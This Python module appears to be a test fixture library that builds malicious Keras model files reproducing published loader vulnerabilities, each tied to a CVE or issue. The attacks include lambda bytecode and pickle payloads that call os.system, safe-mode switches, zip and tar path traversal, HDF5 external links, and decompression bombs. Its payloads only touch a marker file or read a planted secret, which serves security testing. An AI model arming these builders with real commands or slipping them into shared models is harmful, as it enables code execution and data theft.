"""Model files as published attacks on Keras make them.

    case = Case("tf_keras", parts, given, outside)      # parts: of an ordinary model's file
    path = ATTACKS["CVE-2025-1550, os.system"].build(case)
    case.secret, case.mark                          # what it would read, what it would write

An attack reads `secret` or makes `mark`, both in a folder that no command is given. Each names the
report that it follows.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any, NamedTuple

import h5py
import numpy as np

Parts = dict[str, Any]
CONFIG, WEIGHTS = "config.json", "model.weights.h5"


class Case:
    """Where one attack is written, and what it aims at.

    Attributes:
      family: name of the Keras that is to load the file.
      parts: bytes of the parts of an ordinary model's file, by name.
      folder: for the attack's files.
      secret: a file outside of all folders that a command is given.
      mark: a file beside it that is not there.
      bomb_bytes: that a zip bomb unpacks to.
    """

    def __init__(
        self, family: str, parts: Parts, folder: Path, outside: Path, bomb_bytes: int = 120 << 20
    ) -> None:
        self.family, self.parts, self.folder = family, parts, folder
        self.secret, self.mark = outside / "secret", outside / "mark"
        self.bomb_bytes = bomb_bytes
        for directory in (folder, outside):
            directory.mkdir(parents=True, exist_ok=True)
        np.arange(6, dtype="f4").tofile(self.secret)

    @property
    def is_keras_3(self) -> bool:
        return self.family == "keras"

    def config(self) -> dict[str, Any]:
        return json.loads(self.parts[CONFIG])

    def write(self, parts: Mapping[str, Any], name: str = "evil.keras") -> Path:
        """Writes a model file of parts."""
        path = self.folder / name
        path.write_bytes(packed(parts))
        return path

    def with_config(self, config: Any) -> Path:
        return self.write({**self.parts, CONFIG: json.dumps(config)})

    def with_layers(self, *layers: Mapping[str, Any]) -> Path:
        """Writes the model with more layers."""
        config = self.config()
        config["config"]["layers"] += layers
        return self.with_config(config)

    def with_weights(self, change: Callable[[Any], Any]) -> Path:
        """Writes the model after `change` was called on its open HDF5 file."""
        weights = io.BytesIO(self.parts[WEIGHTS])
        with h5py.File(weights, "r+") as file:
            changed = change(file)
        return self.write({**self.parts, WEIGHTS: changed or weights.getvalue()})

    def call(self, value: Any, /, **arguments: Any) -> list[Any]:
        """Returns the calls of a layer: one, on a constant."""
        if self.is_keras_3:
            return [{"args": [value], "kwargs": arguments}]
        return [["_CONSTANT_VALUE", -1, value, arguments]]

    def bytecode(self) -> Any:
        """Returns a function of Python that makes the mark, as the family keeps a lambda."""
        source = f"lambda x: (__import__('os').system('touch {self.mark}'), x)[1]"
        code = base64.b64encode(marshal.dumps(eval(source).__code__)).decode()
        if not self.is_keras_3:
            return [code, None, None]
        words = {"code": code, "defaults": None, "closure": None}
        return {"class_name": "__lambda__", "config": words}

    def lambda_layer(
        self, kind: str, called: Any, value: Any = 1.0, name: str = "added", /, **arguments: Any
    ) -> Any:
        """Returns a Lambda that is called on a value.

        Args:
          kind: 'lambda' for bytecode, and 'function' for a named one.
          arguments: of the function, besides the value.
        """
        config = {"function": called, "arguments": arguments}
        calls = [{"args": [], "kwargs": {"inputs": value}}]
        if not self.is_keras_3:
            config |= {"function_type": kind, "output_shape": None, "output_shape_type": "raw"}
            calls = self.call(value)
        return layer("Lambda", config, inbound=calls, name=name)

    def bad_lambda(self, name: str = "bad") -> dict[str, Any]:
        return self.lambda_layer("lambda", self.bytecode(), 1.0, name)


def packed(parts: Mapping[str, Any]) -> bytes:
    """Returns a zip of parts."""
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return data.getvalue()


def layer(
    class_name: Any,
    config: Mapping[str, Any],
    module: Any = "keras.layers",
    inbound: Any = (),
    name: str = "added",
    **more: Any,
) -> dict[str, Any]:
    """Returns the configuration of a layer, as both families write it."""
    return {
        "module": module,
        "class_name": class_name,
        "config": {"name": name, **config},
        "registered_name": None,
        "name": name,
        "inbound_nodes": list(inbound),
        **more,
    }


def function(name: str, module: str = "builtins") -> dict[str, Any]:
    """Returns the configuration of a function."""
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


class Attack(NamedTuple):
    """A file that acts.

    Attributes:
      source: the report that it follows.
      build: writes the file and returns its path.
      is_left_out: whether the part that acts is left out and the rest of the file loaded.
    """

    source: str
    build: Callable[[Case], Path]
    is_left_out: bool = False


ATTACKS: dict[str, Attack] = {}


def attack(name: str, source: str, **options: Any) -> Callable[[Any], Any]:
    def add(build: Callable[[Case], Any]) -> Callable[[Case], Any]:
        ATTACKS[name] = Attack(source, build, **options)
        return build

    return add


def lambda_of(
    name: str, source: str, module: str, symbol: str, call: Callable[[Case], Any]
) -> None:
    """Adds an attack: a Lambda that names a function of any module, and is called at once."""

    def build(case: Case) -> Path:
        value, named = call(case)
        path = module if case.is_keras_3 else module.replace("keras.", "tf_keras.")
        named_function = function(symbol, path)
        return case.with_layers(case.lambda_layer("function", named_function, value, **named))

    ATTACKS[name] = Attack(source, build)


# A Lambda, and functions that it names.


@attack("bytecode in a Lambda", "CVE-2024-3660, VU#253266")
def _bytecode(case: Case) -> Path:
    return case.with_layers(case.bad_lambda())


@attack("the same in a model within the model", "nested Lambda that scanners miss, 2026")
def _nested(case: Case) -> Path:
    inner = {"name": "inner", "layers": [case.bad_lambda()]}
    return case.with_layers(layer("Sequential", inner, module="keras"))


@attack("the same without a module, by the older reader", "CVE-2026-12481, keras #23048")
def _without_module(case: Case) -> Path:
    bad = case.bad_lambda()
    del bad["module"], bad["registered_name"]
    return case.with_layers(bad)


lambda_of(
    "a Lambda that names os.system",
    "tf-keras #910",
    "os",
    "system",
    lambda case: (f"touch {case.mark}", {}),
)
lambda_of(
    "a Lambda that names builtins.eval",
    "tf-keras #910",
    "builtins",
    "eval",
    lambda case: (f"open({str(case.mark)!r}, 'w')", {}),
)
lambda_of(
    "get_file copies a file of the machine",
    "CVE-2025-8747",
    "keras.utils",
    "get_file",
    lambda case: (
        "mark",
        {"origin": f"file://{case.secret}", "cache_dir": str(case.mark.parent)},
    ),
)


def _archive(case: Case, kind: bytes) -> Path:
    """Writes a tar whose member leads outside."""
    path = case.folder / "archive.tar"
    with tarfile.open(path, "w") as file:
        member = tarfile.TarInfo(str(case.mark))
        member.type, member.linkname = kind, str(case.secret)
        file.addfile(member, io.BytesIO(b""))
    return path


for _kind, _report in (
    (tarfile.REGTYPE, "CVE-2024-55459, CVE-2025-12638"),
    (tarfile.SYMTYPE, "CVE-2025-12060, keras #23015"),
    (tarfile.LNKTYPE, "keras #22973"),
):
    lambda_of(
        f"get_file unpacks an archive that leads outside, kind {_kind.decode()}",
        _report,
        "keras.utils",
        "get_file",
        lambda case, kind=_kind: (
            "archive",
            {
                "origin": f"file://{_archive(case, kind)}",
                "extract": True,
                "cache_dir": str(case.mark.parent),
            },
        ),
    )
lambda_of(
    "load_model reads a second file without safe mode",
    "CVE-2025-8747, the first report",
    "keras.models",
    "load_model",
    lambda case: (str(case.secret), {"safe_mode": False}),
)
lambda_of(
    "a global attribute switches safe mode off",
    "CVE-2025-9906, the first report",
    "keras.src.backend.common.global_state",
    "set_global_attribute",
    lambda case: ("safe_mode_saving", {"value": False}),
)
lambda_of(
    "a function of Keras writes a picture",
    "plot_image_gallery, 2026",
    "keras.visualization",
    "plot_image_gallery",
    lambda case: ([[[[0.0]]]], {"path": str(case.mark)}),
)
lambda_of(
    "the constructor of TFSMLayer as a function",
    "keras #23654",
    "keras.layers",
    "TFSMLayer",
    lambda case: (str(case.secret.parent), {}),
)


@attack("safe mode switched off, and bytecode behind it", "CVE-2025-9906")
def _unsafe(case: Case) -> Path:
    switch = function("enable_unsafe_deserialization", "keras.config")
    off = case.lambda_layer("function", switch)
    return case.with_layers(off, case.bad_lambda("worse"))


# Classes and functions of any module.


@attack("a class of any module", "CVE-2025-1550")
def _class(case: Case) -> Path:
    return case.with_layers(
        layer(
            "Popen", {"args": ["touch", str(case.mark)]}, module="subprocess", inbound=case.call(1)
        )
    )


@attack("a function in place of a layer", "CVE-2025-1550")
def _function(case: Case) -> Path:
    added = {**function("system", "os"), "name": "bad", "inbound_nodes": []}
    return case.with_layers({**added, "inbound_nodes": case.call(f"touch {case.mark}")})


@attack("a module that acts when it is imported", "CVE-2025-1550")
def _module(case: Case) -> Path:
    (case.folder.parent / "evil_module.py").write_text(f"open({str(case.mark)!r}, 'w')")
    return case.with_config({**case.config(), "module": "evil_module", "class_name": "Model"})


@attack("a function as activation", "CVE-2025-1550")
def _activation(case: Case) -> Path:
    activation = function("system", "os")
    return case.with_layers(
        layer("Activation", {"activation": activation}, inbound=case.call(f"touch {case.mark}"))
    )


@attack("a class of any module as initializer", "CVE-2025-1550")
def _initializer(case: Case) -> Path:
    bad = {"module": "os", "class_name": "system", "config": {"command": f"touch {case.mark}"}}
    return case.with_layers(layer("Dense", {"units": 1, "kernel_initializer": bad}))


@attack("a class of any module as regularizer", "CVE-2025-1550")
def _regularizer(case: Case) -> Path:
    return case.with_layers(
        layer("Dense", {"units": 1, "kernel_regularizer": function("system", "os")})
    )


@attack("a class of any module as dtype policy", "CVE-2025-1550")
def _policy(case: Case) -> Path:
    inner = {"module": "subprocess", "class_name": "Popen", "config": {"args": "touch x"}}
    policies = {"default_policy": inner, "policy_map": {"x": inner}}
    policy = {"module": "keras", "class_name": "DTypePolicyMap", "config": policies}
    return case.with_layers(layer("Dense", {"units": 1, "dtype": policy}))


@attack("a class of any module as quantizer", "CVE-2025-1550")
def _quantizer(case: Case) -> Path:
    bad = {"module": "subprocess", "class_name": "Popen", "config": {"args": "touch x"}}
    return case.with_layers(layer("Dense", {"units": 1, "quantization_config": bad}))


@attack("a class in the shapes from which a layer is built", "CVE-2025-1550")
def _build_config(case: Case) -> Path:
    bad = {"input_shape": layer("Popen", {"args": "touch x"}, module="subprocess")}
    return case.with_layers(layer("Dense", {"units": 1}, build_config=bad))


@attack("a class among the arguments of a call", "CVE-2025-1550")
def _argument(case: Case) -> Path:
    bad = {"module": "subprocess", "class_name": "Popen", "config": {"args": "touch x"}}
    return case.with_layers(layer("Add", {}, inbound=case.call(1.0, mask=bad)))


@attack("a type that is imported", "CVE-2025-1550, __typespec__")
def _typespec(case: Case) -> Path:
    bad = {
        "class_name": "__typespec__",
        "spec_name": "Popen",
        "module": "subprocess",
        "config": [["touch", str(case.mark)]],
        "registered_name": None,
    }
    return case.with_layers(layer("InputLayer", {"type_spec": bad}))


@attack("losses, metrics and optimizers of any module", "CVE-2025-1550", is_left_out=True)
def _compiled(case: Case) -> Path:
    bad = {"module": "os", "class_name": "function", "config": "system", "registered_name": "x"}
    compiled = {"optimizer": bad, "loss": bad, "metrics": [bad], "loss_weights": bad}
    return case.with_config({**case.config(), "compile_config": compiled})


for _wrapper, _key in (
    ("Bidirectional", "layer"),
    ("TimeDistributed", "layer"),
    ("SpectralNormalization", "layer"),
    ("RNN", "cell"),
    ("StackedRNNCells", "cells"),
    ("Pipeline", "layers"),
):

    def _wrapped(case: Case, wrapper: str = _wrapper, key: str = _key) -> Path:
        bad = case.bad_lambda("inner")
        del bad["inbound_nodes"]
        inner = [bad] if key.endswith("s") else bad
        return case.with_layers(layer(wrapper, {key: inner}))

    ATTACKS[f"a Lambda within {_wrapper}"] = Attack("CVE-2024-3660, nested", _wrapped)


@attack("a registered name beside a class of the list", "KERAS-MFV-004, keras #22729")
def _registered(case: Case) -> Path:
    module = "keras.src.layers.core.lambda_layer"
    names = {"class_name": "RMSNormalization", "module": module, "registered_name": "Lambda"}
    return case.with_layers({**case.bad_lambda(), **names})


@attack("a registered name of Keras' own", "KERAS-MFV-004")
def _own_registered(case: Case) -> Path:
    return case.with_layers({**case.bad_lambda(), "registered_name": "Custom>Adam"})


@attack("the number of a shared object", "keras shared_object_id")
def _shared(case: Case) -> Path:
    first = layer("Dense", {"units": 1}, name="first", shared_object_id=7)
    return case.with_layers(first, {**case.bad_lambda(), "shared_object_id": 7})


@attack("a qualified name", "tf_keras `Outer.inner`")
def _qualified(case: Case) -> Path:
    return case.with_layers(layer("Path.touch", {}, module="pathlib", inbound=case.call(1)))


# Layers that read, load or call.

for _name in ("StringLookup", "IntegerLookup", "TextVectorization"):
    for _what in ("path", "address"):

        def _lookup(case: Case, name: str = _name, what: str = _what) -> Path:
            source = str(case.secret) if what == "path" else "http://127.0.0.1:9/words"
            return case.with_layers(layer(name, {"vocabulary": source}))

        ATTACKS[f"{_name} with a vocabulary at a {_what}"] = Attack("CVE-2025-12058", _lookup)


@attack("a feature column with a vocabulary file", "CVE-2025-12058, tf_keras DenseFeatures")
def _column(case: Case) -> Path:
    column = {
        "class_name": "VocabularyFileCategoricalColumn",
        "config": {"key": "x", "vocabulary_file": str(case.secret), "vocabulary_size": 1},
    }
    return case.with_layers(layer("DenseFeatures", {"feature_columns": [column]}))


@attack("a pickled PyTorch module", "CVE-2025-49655, keras #21575")
def _torch(case: Case) -> Path:
    pickled = base64.b64encode(_pickled(case)).decode()
    return case.with_layers(layer("TorchModuleWrapper", {"module": pickled, "name": "added"}))


@attack("a SavedModel as a layer", "CVE-2026-1462, keras #22035")
def _savedmodel(case: Case) -> Path:
    return case.with_layers(layer("TFSMLayer", {"filepath": str(case.secret.parent)}))


for _name in ("JaxLayer", "FlaxLayer"):

    def _jax(case: Case, name: str = _name) -> Path:
        return case.with_layers(layer(name, {"call_fn": case.bytecode(), "module": "os"}))

    ATTACKS[f"a function in {_name}"] = Attack("keras, JaxLayer", _jax)

for _operation, _words in (
    ("io.write_file", {"contents": "x"}),
    ("io.read_file", {}),
    ("io.matching_files", {}),
    ("numpy_function", {"inp": [], "Tout": "float32"}),
    ("py_function", {"inp": [], "Tout": "float32"}),
    ("raw_ops.WriteFile", {"contents": "x"}),
    ("saved_model.load", {}),
    ("train.load_checkpoint", {}),
    ("io.gfile.remove", {}),
    ("data.TextLineDataset", {}),
):

    def _operated(case: Case, name: str = _operation, words: Any = _words) -> Path:
        target = case.mark if words.get("contents") else case.secret
        return case.with_layers(
            layer("TFOpLambda", {"function": name}, inbound=case.call(str(target), **words))
        )

    ATTACKS[f"tf_keras calls {_operation}"] = Attack("JFrog TFLOW-MALOPS", _operated)

for _name in ("ClassMethod", "InstanceMethod", "InstanceProperty", "SlicingOpLambda"):

    def _method(case: Case, name: str = _name) -> Path:
        words = {"cls_symbol": "io.gfile.GFile", "cls_ref": "io.gfile.GFile", "method_name": "read"}
        words |= {"attr_name": "read", "function": "io.read_file"}
        return case.with_layers(layer(name, words, inbound=case.call(str(case.secret))))

    ATTACKS[f"tf_keras calls by {_name}"] = Attack("JFrog TFLOW-MALOPS", _method)


@attack("an operation by its definition", "JFrog TFLOW-MALOPS")
def _definition(case: Case) -> Path:
    definition = {"op": "WriteFile", "name": "w", "input": ["a", "b"]}
    constants = {0: str(case.mark), 1: "x"}
    return case.with_layers(
        layer("TensorFlowOpLayer", {"node_def": definition, "constants": constants})
    )


@attack("an operation of Keras 3 that calls a function", "keras #21597")
def _mapped(case: Case) -> Path:
    words = {"function": function("system", "os")}
    return case.with_layers(
        layer("VectorizedMap", words, module="keras.src.ops.core", inbound=case.call("touch x"))
    )


@attack("a second reading of a text in the configuration", "tf_keras composite tensors")
def _composite(case: Case) -> Path:
    text = json.dumps(case.bad_lambda())
    first = case.config()["config"]["layers"][0]["name"]
    constant = ["_CONSTANT_VALUE", -1, [{"_TYPE": "COMPOSITE"}, text], {}]
    return case.with_layers(layer("Add", {}, inbound=[[constant, [first, 0, 0, {}]]]))


# Weights.


def first_kernel(file: Any) -> str:
    """Returns the name of the kernel of 3 × 2 weights."""
    names: list[str] = []

    def look(name: str, part: Any) -> None:
        if isinstance(part, h5py.Dataset) and part.shape == (3, 2):
            names.append(name)

    file.visititems(look)
    return names[0]


def _replaced(put: Callable[[Any, str, Case], Any]) -> Callable[[Case], Path]:
    """Returns an attack that puts something in place of the kernel."""

    def build(case: Case) -> Path:
        def change(file: Any) -> Any:
            name = first_kernel(file)
            del file[name]
            return put(file, name, case)

        return case.with_weights(change)

    return build


def _external(file: Any, name: str, case: Case) -> None:
    file.create_dataset(name, shape=(3, 2), dtype="f4", external=[(str(case.secret), 0, 24)])


def _virtual(file: Any, name: str, case: Case) -> None:
    layout = h5py.VirtualLayout((3, 2), "f4")
    layout[:] = h5py.VirtualSource(str(case.secret), "x", shape=(3, 2))
    file.create_virtual_dataset(name, layout)


def _growing(file: Any, name: str, case: Case) -> None:
    """Adds a virtual dataset whose size is that of another file."""
    layout = h5py.VirtualLayout((3, 2), "f4", maxshape=(None, 2))
    source = h5py.VirtualSource(str(case.secret), "x", shape=(3, 2), maxshape=(None, 2))
    layout[: h5py.h5s.UNLIMITED, :] = source[: h5py.h5s.UNLIMITED, :]
    file.create_virtual_dataset(name, layout)


def _linked(file: Any, name: str, case: Case) -> None:
    file[name] = h5py.ExternalLink(str(case.secret), "x")


def _linked_group(file: Any, name: str, case: Case) -> None:
    group = name.split("/")[0]
    del file[group]
    file[group] = h5py.ExternalLink(str(case.secret), "/")


def _softly(file: Any, name: str, case: Case) -> None:
    file[name] = h5py.SoftLink("/elsewhere")


def _bomb(file: Any, name: str, case: Case) -> None:
    shape = (1 << 20, 1 << 20)
    file.create_dataset(name, shape=shape, dtype="f4", chunks=(1024, 1024), compression="gzip")


def _bombs(file: Any, name: str, case: Case) -> None:
    for number in range(8):
        file.create_dataset(
            f"{name}{number}", shape=(1 << 29,), dtype="f4", chunks=(1 << 20,), compression="gzip"
        )


def _pickles(file: Any, name: str, case: Case) -> None:
    file.create_dataset(name, data=np.void(_pickled(case)))


for _words, _report, _put in (
    ("weights in another file", "CVE-2026-1669", _external),
    ("weights that show another file", "CVE-2026-1669, keras #22976", _virtual),
    ("weights as many as another file has", "CVE-2026-1669, keras #22976", _growing),
    ("weights behind an external link", "CVE-2026-1669, keras #22900", _linked),
    ("a group behind an external link", "keras #22900", _linked_group),
    ("weights behind a soft link", "keras #22900", _softly),
    ("weights that are declared and not held", "CVE-2026-0897, keras #22975", _bomb),
    ("many of them, each below a limit", "keras #23100", _bombs),
    ("a pickle among the weights", "keras #22468", _pickles),
):
    ATTACKS[_words] = Attack(_report, _replaced(_put))


class _Reduced:
    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)


def _pickled(case: Case) -> bytes:
    return pickle.dumps(_Reduced(f"touch {case.mark}"))


@attack("NumPy's file of weights with a pickle", "modelscan #262, keras #23034")
def _npz(case: Case) -> Path:
    parts = {**case.parts, "model.weights.npz": packed({"x.npy": _object_array(case)})}
    del parts[WEIGHTS]
    return case.write(parts)


@attack("a bare pickle as NumPy's file of weights", "modelscan #262")
def _bare(case: Case) -> Path:
    parts = {**case.parts, "model.weights.npz": _pickled(case)}
    del parts[WEIGHTS]
    return case.write(parts)


@attack("NumPy's file of weights that declares more than it holds", "keras #23016")
def _npz_bomb(case: Case) -> Path:
    header = io.BytesIO()
    description = {"descr": "<f4", "fortran_order": False, "shape": (1 << 40,)}
    np.lib.format.write_array_header_1_0(header, description)
    parts = {**case.parts, "model.weights.npz": packed({"x.npy": header.getvalue()})}
    del parts[WEIGHTS]
    return case.write(parts)


@attack("weights in shards, at a path", "keras sharded weights")
def _sharded(case: Case) -> Path:
    index = {"metadata": {}, "weight_map": {"/layers/dense/vars": str(case.secret)}}
    parts = {**case.parts, "model.weights.json": json.dumps(index)}
    del parts[WEIGHTS]
    return case.write(parts)


def _object_array(case: Case) -> bytes:
    data = io.BytesIO()
    array = np.empty(1, dtype=object)
    array[0] = _Reduced(f"touch {case.mark}")
    np.save(data, array, allow_pickle=True)
    return data.getvalue()


# The zip.

for _name, _report in (
    ("../outside/mark", "zip slip"),
    ("assets/../../outside/mark", "KERAS-MFV-001, zip slip in assets"),
    ("assets/vocabulary", "keras #23101"),
):

    def _member(case: Case, name: str = _name) -> Path:
        return case.write({**case.parts, name: b"x"})

    ATTACKS[f"a part named {_name}"] = Attack(_report, _member)


@attack("a part with the full path of a file", "GHSA-hqp4-2352-xf5r")
def _absolute(case: Case) -> Path:
    return case.write({**case.parts, str(case.mark): b"x"})


@attack("a part that is a link, and one below it", "keras #23015")
def _link(case: Case) -> Path:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        for name, part in case.parts.items():
            file.writestr(name, part)
        link = zipfile.ZipInfo("assets")
        link.external_attr = 0o120777 << 16
        file.writestr(link, str(case.mark.parent))
        file.writestr("assets/mark", b"x")
    path = case.folder / "evil.keras"
    path.write_bytes(data.getvalue())
    return path


@attack("weights that are a link", "keras #23015")
def _weights_link(case: Case) -> Path:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        for name, part in case.parts.items():
            info = zipfile.ZipInfo(name)
            if name == WEIGHTS:
                info.external_attr, part = 0o120777 << 16, str(case.secret)
            file.writestr(info, part)
    path = case.folder / "evil.keras"
    path.write_bytes(data.getvalue())
    return path


@attack("two configurations", "duplicate names in a zip")
def _twice(case: Case) -> Path:
    path = case.write(case.parts)
    evil = case.config()
    evil["config"]["layers"].append(case.bad_lambda())
    data = path.read_bytes()
    # Renamed in place, since Python's writer warns of a name that stands twice.
    other = packed({**case.parts, "config.jsox": json.dumps(evil)})
    path.write_bytes(other.replace(b"config.jsox", b"config.json"))
    assert data != path.read_bytes()
    return path


@attack("a name that differs between the list and the part", "duplicate names in a zip")
def _two_names(case: Case) -> Path:
    evil = case.config()
    evil["config"]["layers"].append(case.bad_lambda())
    data = packed({**case.parts, "config.jsox": json.dumps(evil)})
    place = data.rindex(b"config.jsox")  # that of the list, at the end
    path = case.folder / "evil.keras"
    path.write_bytes(data[:place] + b"config.json" + data[place + 11 :])
    return path


for _part in (CONFIG, "metadata.json", WEIGHTS, "assets/bomb"):

    def _zip_bomb(case: Case, part: str = _part) -> Path:
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as file:
            for name, own in {**case.parts, part: bytes(case.bomb_bytes)}.items():
                file.writestr(name, own)
        path = case.folder / "evil.keras"
        path.write_bytes(data.getvalue())
        return path

    ATTACKS[f"a zip bomb as {_part}"] = Attack("keras #23010, #23101, #23303", _zip_bomb)


# Files that are something else.


def legacy_file(case: Case) -> bytes:
    """Returns an HDF5 file of a whole model, as older versions write it."""
    data = io.BytesIO()
    model = {"class_name": "Sequential", "config": {"name": "m", "layers": [case.bad_lambda()]}}
    with h5py.File(data, "w") as file:
        file.attrs["model_config"] = json.dumps(model)
        file.attrs["keras_version"] = "2.15.0"
        file.attrs["backend"] = "tensorflow"
        file.create_group("model_weights").attrs["layer_names"] = []
    return data.getvalue()


@attack("a model of HDF5", "CVE-2025-9905")
def _legacy(case: Case) -> Path:
    path = case.folder / "evil.h5"
    path.write_bytes(legacy_file(case))
    return path


@attack("a model of HDF5 that is named .keras", "CVE-2025-9905")
def _renamed(case: Case) -> Path:
    path = case.folder / "evil.keras"
    path.write_bytes(legacy_file(case))
    return path


for _ending in (".h5", ".keras"):

    def _both(case: Case, ending: str = _ending) -> Path:
        path = case.folder / f"evil{ending}"
        path.write_bytes(legacy_file(case) + packed(case.parts))
        return path

    ATTACKS[f"HDF5 and a zip in one file named {_ending}"] = Attack("CVE-2025-9905", _both)


@attack("a pickle named .keras", "KERAS-MFV-006")
def _bare_pickle(case: Case) -> Path:
    path = case.folder / "evil.keras"
    path.write_bytes(_pickled(case))
    return path


@attack("a SavedModel", "JFrog TFLOW-LAMBDA and TFLOW-MALOPS")
def _saved_model(case: Case) -> Path:
    path = case.folder / "evil.keras"
    (path / "variables").mkdir(parents=True)
    (path / "saved_model.pb").write_bytes(b"\x08\x01")
    (path / "keras_metadata.pb").write_bytes(b"")
    return path


@attack("a checkpoint of Orbax", "KERAS-MFV-001")
def _orbax(case: Case) -> Path:
    path = case.folder / "evil.keras"
    (path / "0" / "assets").mkdir(parents=True)
    (path / "0" / "_CHECKPOINT_METADATA").write_text("{}")
    (path / "0" / "config.json").write_bytes(case.parts[CONFIG])
    return path
